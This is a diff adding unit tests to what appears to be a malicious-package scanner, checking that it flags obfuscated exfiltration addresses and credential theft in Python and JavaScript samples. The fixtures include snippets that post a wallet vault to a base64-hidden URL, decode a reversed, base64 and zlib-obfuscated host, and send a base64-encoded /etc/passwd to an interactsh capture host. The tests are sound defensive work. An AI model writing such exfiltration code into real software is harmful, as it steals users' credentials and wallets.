@@ -11,6 +11,7 @@
 
 #include <time.h>
 
+#include <algorithm>
 #include <chrono>
 #include <string>
 #include <vector>
@@ -446,6 +447,54 @@ TEST(Signals, decoded_code_in_a_file_that_never_runs_it_is_decoded_code) {
   expect_facts(facts, {{FactKind::kDecodedCode, "base64", 2, "base64: import os; os.system('id')"}});
 }
 
+// An address written in clear is every client's; one a file decodes at run time was hidden
+// from its reader (bip39-mnemonic-decrypt posts a wallet's vault to a base64 address;
+// cipherbcrypt reverses, base64-decodes and inflates its host).
+TEST(Signals, an_address_the_file_decodes_is_a_hidden_address_beside_the_send) {
+  const std::string url = "http://127.0.0.1:5000/post";
+  expect_facts(py("import base64\n"
+                  "from requests import post\n"
+                  "def upload(vault):\n"
+                  "    post(base64.b64decode(\"" +
+                  b64(url) + "\").decode(), data={'v': vault})\n"),
+               {{FactKind::kHiddenAddress, "base64", 4, "base64: " + url},
+                {FactKind::kDecodedCode, "base64", 4, "base64: " + url},
+                {FactKind::kSend, "http", 2, "from requests import"}});
+  std::string hidden = b64(zlib_stream("cdn.example.com"));
+  std::reverse(hidden.begin(), hidden.end());
+  expect_facts(py("from http.client import HTTPSConnection\n"
+                  "from zlib import decompress\n"
+                  "from base64 import b64decode\n"
+                  "def d(s): return decompress(b64decode(s[::-1])).decode()\n"
+                  "c = HTTPSConnection(d(b'" +
+                  hidden + "'))\n"),
+               {{FactKind::kHiddenAddress, "reversed → base64 → zlib", 5, "reversed → base64 → zlib: cdn.example.com"},
+                {FactKind::kSend, "http", 5, "HTTPSConnection("}});
+}
+
+TEST(Signals, a_host_name_under_one_encoding_is_an_identifier_not_a_hidden_address) {
+  // An OAuth client id kept from secret scanners; a URL under the same one encoding is not.
+  const auto facts =
+      js("const decode = (s) => Buffer.from(s, 'base64').toString();\n"
+         "const CLIENT_ID = decode('" +
+         b64("10710-abc.apps.example.com") +
+         "');\n"
+         "fetch('https://accounts.example.com/token', {body: CLIENT_ID});\n");
+  EXPECT_TRUE(std::none_of(facts.begin(), facts.end(), [](const Fact& f) {
+    return f.kind == FactKind::kHiddenAddress;
+  })) << ::testing::PrintToString(facts);
+}
+
+TEST(Signals, a_decoded_module_path_or_file_name_is_no_address) {
+  // Each valid as a DNS name; none under a top-level domain.
+  for (const char* text : {"os.path.join", "setuptools.command.install", "package.module.py", "build.install.sh"}) {
+    const auto facts = py("import base64\nX = base64.b64decode(\"" + b64(text) + "\")\n");
+    EXPECT_TRUE(
+        std::none_of(facts.begin(), facts.end(), [](const Fact& f) { return f.kind == FactKind::kHiddenAddress; }))
+        << text << ": " << ::testing::PrintToString(facts);
+  }
+}
+
 TEST(Signals, a_base64_zlib_bomb_is_a_decoding_bomb) {
   const std::string bomb = b64(zlib_stream(std::string(2U << 20, '\0')));
   Budget budget;
@@ -718,6 +767,18 @@ TEST(Signals, a_discord_leveldb_path_and_a_webhook_url_are_a_token_store_and_a_w
                           {FactKind::kSend, "http", 3, "requests.post("},
                           {FactKind::kSend, "webhook", 3, "discord.com/api/webhooks"},
                       });
+}
+
+// rcebymrx (held-out-9): /etc/passwd read at import and sent to interactsh's public server.
+TEST(Signals, an_interactsh_host_is_a_capture_service) {
+  expect_facts(py("import requests, base64\n"
+                  "data = base64.b64encode(open('/etc/passwd').read().encode()).decode()\n"
+                  "requests.get(f'http://localhost/q1.oast.fun/code?rce={data}')\n"),
+               {{FactKind::kCollect, "credential-file", 2, "/etc/passwd"},
+                {FactKind::kSend, "http", 3, "requests.get("},
+                {FactKind::kSend, "capture", 3, ".oast.fun"}});
+  // A word that only ends like one is not a host of it.
+  EXPECT_TRUE(py("NAME = 'toast.fun'\n").empty());
 }
 
 TEST(Signals, discord_alone_is_every_bot_library_and_not_a_token_store) {
